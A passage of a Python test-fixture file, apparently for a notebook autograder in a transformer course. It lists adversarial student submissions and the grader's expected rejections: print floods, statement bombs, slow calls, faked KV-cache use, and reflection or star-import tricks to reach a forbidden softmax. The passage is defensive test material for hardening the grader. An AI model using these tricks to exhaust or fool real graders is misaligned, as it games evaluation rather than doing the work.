        cell: PRINT_FLOOD + _reference_edit(CH6, cell) for cell in (
            "repeat_kv", "counts", "decoding")}), Expect(), chapter=CH6,
        limits=FLOOD_TIME),
    Hostile("positions_prints_20KB_in_5700_statements", cells(**{
        cell: PRINT_FLOOD + _reference_edit(CH7, cell) for cell in (
            "equivariance_gap", "sinusoidal", "rotary")}), Expect(), chapter=CH7,
        limits=FLOOD_TIME),
    Hostile("capstone_prints_20KB_in_5700_statements", cells(**{
        cell: PRINT_FLOOD + _reference_edit(CH8, cell) for cell in (
            "train_step", "generate", "transformer_block")}), Expect(), chapter=CH8,
        limits=FLOOD_TIME),
    # issue 21: statement bombs, left out (a cell) or refused (a notebook) before parsing
    Hostile("statements_40000_one_word", cells(attention_scores=STATEMENT_BOMB),
            Expect(tests={SCORES: failed(NOT_RUN.format("attention_scores"))},
                   problems=[("limit", r"^cell attention_scores: " + CELL_BOMB)])),
    Hostile("statements_40000_on_one_line", cells(attention_entropy=SEMICOLON_BOMB),
            Expect(tests={ENTROPY: failed(NOT_RUN.format("attention_entropy"))},
                   problems=[("limit", r"^cell attention_entropy: " + CELL_BOMB)])),
    Hostile("notebook_of_20MB_of_one_word_statements", _notebook_of_20MB,
            Expect(tests={SCORES: failed(NOT_RUN.format("attention_scores"))},
                   problems=[("limit", r"^cell attention_scores: " + CELL_BOMB)])),
    Hostile("statements_over_a_cell", cells(
        attention_scores=OVER_A_CELL + _reference_edit(CH1, "attention_scores")),
            Expect(tests={SCORES: failed(NOT_RUN.format("attention_scores"))},
                   problems=[("limit", r"^cell attention_scores: " + CELL_BOMB)])),
    Hostile("statements_over_a_notebook", edited(_cells_of_statements),
            Expect("error", error=NOTEBOOK_BOMB)),
    Hostile("kv_statements_40000_one_word", cells(counts=STATEMENT_BOMB),
            Expect(tests=each(["test_count_gqa_parameters", "test_count_kv_cache_bytes"],
                              failed(NOT_RUN.format("count_\\w+"))),
                   problems=[("limit", r"^cell counts: " + CELL_BOMB)]), chapter=CH6),
    Hostile("kv_statements_over_a_notebook", edited(_cells_of_statements),
            Expect("error", error=NOTEBOOK_BOMB), chapter=CH6),
    Hostile("capstone_statements_over_a_cell", cells(
        train_step=OVER_A_CELL + _reference_edit(CH8, "train_step")),
            Expect(tests={"test_train_step": failed(NOT_RUN.format("train_step"))},
                   problems=[("limit", r"^cell train_step: " + CELL_BOMB)]), chapter=CH8),
    Hostile("capstone_statements_over_a_notebook", edited(_cells_of_statements),
            Expect("error", error=NOTEBOOK_BOMB), chapter=CH8),
    # issue 21: calls each under the limit, together over the test cell's
    Hostile("slow_calls_add_up_past_the_test_limit", cells(attention_entropy=SLOW_CALLS),
            Expect(tests={ENTROPY: failed(TEST_TIME, "timeout")}),
            limits={"call_seconds": 4}),
    Hostile("positions_slow_calls_add_up_past_the_test_limit", cells(equivariance_gap=SLOW_GAP),
            Expect(tests={"test_equivariance_gap": failed(TEST_TIME, "timeout")}),
            limits={"call_seconds": 4}, chapter=CH7),
    # issue 21: caches that lie about the steps (4/4 before: the check read the end state)
    Hostile("capstone_generate_fills_the_cache_at_the_end",
            cells(generate=CACHE_FILLED_IN_ONE_CALL),
            Expect(tests={"test_generate": failed(GENERATE_CACHED + r"use_cache=True but the "
                                                  r"model was never given the caches")}),
            chapter=CH8),
    Hostile("capstone_generate_writes_the_cache_from_the_weights",
            cells(generate=CACHE_WRITTEN_FROM_THE_WEIGHTS),
            Expect(tests={"test_generate": failed(GENERATE_CACHED + r"use_cache=True but the "
                                                  r"model was never given the caches")}),
            chapter=CH8),
    Hostile("capstone_generate_fresh_cache_each_step", cells(generate=FRESH_CACHE_EACH_STEP),
            Expect(tests={"test_generate": failed(GENERATE_CACHED + r"model\.new_caches\(\) was "
                                                  r"called 5 times in one generation")}),
            chapter=CH8),
    # issue 21: reflection against every forbid
    *_reflection_entries(),
    Hostile("forbidden_softmax_from_a_star_import", cells(stable_softmax=SOFTMAX_FROM_A_STAR_IMPORT),
            Expect(tests=each(SOFTMAX, failed(TEACHING + r"you called softmax, a softmax that "
                                                         r"PyTorch computes for you")))),
    Hostile("heads_chapter_1_submitted_as_chapter_2", _other_chapter,
            Expect("error", error=r"02_heads\.ipynb holds 0 of 02_heads's 5 exercises; it "
                                  r"holds 01_attention's exercises"), chapter=CH2),
]

# Faults of a whole batch, `python -m autograde grade` run as a process (tests/test_faults.py):
# the exact message of each. Whatever the fault, once the batch has ended no process of it
# is alive (within 5 s of a SIGKILL) and nothing of it is left in its TMPDIR.
FAULTS = {
    # every broken-input entry above among honest students: exit 0, full marks for the
    # honest ones, one ERROR line each for the broken ones, and this summary
    "broken_notebooks_among_honest_ones": r"(\d+) notebooks; (\d+) could not be graded\. "
                                          r"Wrote \S+grades\.csv and \S+tests\.csv\.",
    # a second `grade` while one runs: refused (exit 2), naming the first one's pid
    "second_grade_on_the_same_course": r"ERROR: another `grade` is running on \S+ \(pid "
                                       r"\d+\): wait for it to finish, then run this again",
    # SIGKILL of `grade` mid-batch: its workers and sandboxes die with it; the next run
    # grades what was left
    "grader_killed_with_sigkill": r"graded \d+ notebooks in",
    # gradebook.db deleted: the saved verdicts are recorded again, nothing graded again
    "gradebook_deleted": r"recording \d+ results that the gradebook lacks",
    # the worker's sandbox dies and will not start again for a notebook: that one only
    "sandbox_fails_to_start": r"the grader failed on this notebook: RuntimeError: the sandbox "
                              r"failed to start: \(simulated\)",
}

_names = [e.name for e in ENTRIES]
assert len(_names) == len(set(_names)), "entry names must be unique"
